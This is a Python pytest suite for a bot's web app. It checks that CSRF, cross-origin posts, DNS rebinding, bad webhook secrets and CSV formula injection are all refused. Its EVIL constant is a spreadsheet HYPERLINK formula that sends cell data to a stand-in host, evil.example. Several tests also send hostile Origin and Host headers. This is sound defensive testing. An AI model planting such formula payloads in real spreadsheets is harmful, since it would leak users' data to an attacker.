"""Attacks on the web app, the webhook and the demo's emulator, each refused safely.

Every test here reproduces something that worked before (issue: security and privacy sweep).
"""

from __future__ import annotations

import re
from datetime import UTC, datetime
from pathlib import Path

import aiohttp
import pytest
from aiohttp.test_utils import make_mocked_request

from bot.config import Settings
from bot.csvsafe import safe_cell, to_csv
from bot.runtime import SECRET_HEADER, Runtime
from bot.store import officers
from bot.web.render import TEMPLATES
from bot.web.security import CSP
from tests.web_helpers import ADMIN_ID, NOW, make_app, seeded_store, sign_in

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
async def client(aiohttp_client, store, tmp_path):
    seeded_store(tmp_path, store)
    return await aiohttp_client(make_app(store, tmp_path))


# --- the webhook ----------------------------------------------------------------------------

async def test_a_non_ascii_webhook_secret_is_refused_with_403_not_a_500(store, tmp_path):
    runtime = Runtime(Settings(bot_token="1:x", db=store.path), store,
                      webhook_url="https://bot.example/telegram")
    for given in ("ñandú", "\u202e" * 40, "", "x" * 500):
        request = make_mocked_request("POST", "/telegram", headers={SECRET_HEADER: given})
        response = await runtime._webhook(request)
        assert response.status == 403, given


# --- headers on every response --------------------------------------------------------------

async def test_every_response_has_a_strict_csp_nosniff_and_no_server_version(client, store):
    await sign_in(client, store, ADMIN_ID)
    for path in ("/", "/signin", "/static/style.css", "/no/such/page", "/healthz", "/metrics",
                 "/exports/weekly.csv", "/invites"):
        response = await client.get(path)
        headers = response.headers
        assert headers["Content-Security-Policy"] == CSP, path
        assert headers["X-Content-Type-Options"] == "nosniff", path
        assert headers["Server"] == "Pregonero", path
        assert not re.search(r"\d", headers["Server"]), path
    assert "script-src 'self'" in CSP and "unsafe-inline" not in CSP
    assert "frame-ancestors 'none'" in CSP and "default-src 'none'" in CSP


def test_templates_have_no_inline_script_handler_or_style_attribute():
    """The CSP forbids them; a page that used them would silently break."""
    for path in sorted(Path(TEMPLATES).glob("*.html")):
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", text), path.name
        assert not re.search(r"\son[a-z]+\s*=", text, re.IGNORECASE), path.name
        assert not re.search(r"\sstyle\s*=", text, re.IGNORECASE), path.name
        assert "javascript:" not in text.lower(), path.name


# --- cross-site posts -----------------------------------------------------------------------

async def _login_token(store) -> str:
    from bot.store import web as web_store

    return web_store.create_login_token(store.db, ADMIN_ID, now=NOW)


@pytest.mark.parametrize("headers", [
    {"Origin": "null"},
    {"Origin": "http://evil.example"},
    {"Sec-Fetch-Site": "cross-site"},
    {"Sec-Fetch-Site": "same-site"},
    {"Origin": "null", "Sec-Fetch-Site": "cross-site"},
])
async def test_sign_in_from_another_site_is_refused_login_csrf(client, store, headers):
    token = await _login_token(store)
    response = await client.post(f"/login/{token}", headers=headers, allow_redirects=False)
    assert response.status == 403
    assert "pregonero_session" not in response.cookies
    # the token was not used up: the person can still sign in from the page itself
    own = f"http://{client.server.host}:{client.server.port}"
    response = await client.post(f"/login/{token}", allow_redirects=False,
                                 headers={"Origin": own, "Sec-Fetch-Site": "same-origin"})
    assert response.status == 303


async def test_every_post_checks_origin_besides_the_csrf_token(client, store):
    csrf = await sign_in(client, store, ADMIN_ID)
    form = {"csrf": csrf, "role": "officer", "uses": "", "expires": "", "region": "norte"}
    before = len(officers.list_invites(store.db))
    for headers in ({"Origin": "http://evil.example"}, {"Sec-Fetch-Site": "cross-site"},
                    {"Origin": "null"}):
        response = await client.post("/invites", data=form, headers=headers,
                                     allow_redirects=False)
        assert response.status == 403, headers
    assert len(officers.list_invites(store.db)) == before
    response = await client.post("/invites", data=form, allow_redirects=False,
                                 headers={"Sec-Fetch-Site": "same-origin"})
    assert response.status == 303
    assert len(officers.list_invites(store.db)) == before + 1


# --- CSV injection --------------------------------------------------------------------------

def test_formula_cells_are_neutralised_per_owasp():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("norte") == "norte" and safe_cell(-3) == -3 and safe_cell(0.5) == 0.5
    text = to_csv([{"a": EVIL, "b": 2}], ["a", "b"])
    assert text.splitlines()[1].startswith("\"'=HYPERLINK(")


def test_every_csv_the_app_writes_goes_through_the_neutraliser():
    root = Path(__file__).resolve().parent.parent / "bot"
    for path in root.rglob("*.py"):
        if path.name == "csvsafe.py":
            continue
        text = path.read_text(encoding="utf-8")
        assert "csv.writer" not in text and "csv.DictWriter" not in text, path


async def test_an_invite_region_that_is_a_formula_is_refused(client, store):
    csrf = await sign_in(client, store, ADMIN_ID)
    for field in ("region", "port"):
        form = {"csrf": csrf, "role": "officer", "expires": "", field: EVIL}
        response = await client.post("/invites", data=form, allow_redirects=False)
        assert response.status == 400
        assert "norte" in await response.text()  # the example in the message
    assert not [i for i in officers.list_invites(store.db) if i.region and "=" in i.region]
    with pytest.raises(officers.InvalidInput):
        officers.create_invite(store.db, region=EVIL, now=datetime(2026, 3, 1, tzinfo=UTC))
    inv = officers.create_invite(store.db, region=" Norte ", port="Tijuana",
                                 now=datetime(2026, 3, 1, tzinfo=UTC))
    assert (inv.region, inv.port) == ("norte", "tijuana")


def _formula_region(store) -> None:
    """A region stored before regions were checked (or written straight into the file)."""
    store.db.execute("UPDATE officers SET region = ? WHERE region = 'norte'", [EVIL])
    store.db.execute("UPDATE events SET region = ? WHERE region = 'norte'", [EVIL])
    store.db.conn.commit()


async def test_the_weekly_csv_neutralises_a_formula_region(client, store):
    await sign_in(client, store, ADMIN_ID)
    _formula_region(store)
    text = await (await client.get("/exports/weekly.csv")).text()
    assert EVIL.split("(")[0] not in [cell[:10] for cell in re.split(r"[,\n]", text)]
    assert "\"'=HYPERLINK(" in text
    assert not re.search(r"(^|,)[=+@-]", text, re.MULTILINE)


def test_stats_csv_neutralises_a_formula_region(store, db_path, cli):
    seeded_store(db_path.parent, store)
    _formula_region(store)
    out = cli("stats", "--csv")
    assert out.code == 0, out.err
    assert "\"'=HYPERLINK(" in out.out
    assert not re.search(r"(^|,)[=+@-]", out.out, re.MULTILINE)


def test_invite_create_refuses_a_formula_region_in_one_line(store, cli):
    out = cli("invite", "create", "--region", EVIL)
    assert out.code != 0
    assert len(out.err.strip().splitlines()) == 1 and "Traceback" not in out.err
    assert "region" in out.err


# --- the demo's emulator --------------------------------------------------------------------

async def test_the_emulator_control_routes_refuse_cross_origin_and_text_plain(emulator):
    user = emulator.add_user(4242, "Agente", "es")
    url = f"{emulator.url}/_emulator/users/{user.id}/send"
    body = '{"text": "hola"}'
    async with aiohttp.ClientSession() as http:
        attacks = [
            {"headers": {"Content-Type": "text/plain"}, "data": body},
            {"headers": {"Content-Type": "text/plain", "Origin": "http://evil.example"},
             "data": body},
            {"headers": {"Content-Type": "application/json", "Origin": "http://evil.example"},
             "data": body},
            {"headers": {"Content-Type": "application/json", "Sec-Fetch-Site": "cross-site"},
             "data": body},
            {"headers": {"Content-Type": "application/json", "Origin": "null"}, "data": body},
        ]
        for attack in attacks:
            async with http.post(url, **attack) as response:
                assert response.status in (403, 415), attack
        async with http.post(f"{emulator.url}/_emulator/users/{user.id}/block",
                             headers={"Origin": "http://evil.example"}) as response:
            assert response.status == 403
        async with http.get(f"{emulator.url}/_emulator/state",
                            headers={"Host": "evil.example"}) as response:
            assert response.status == 403  # DNS rebinding
        assert emulator.transcript(user.id) == []
        async with http.post(url, json={"text": "hola"},
                             headers={"Origin": emulator.url}) as response:
            assert response.status == 200
    assert [m.text for m in emulator.transcript(user.id)] == ["hola"]
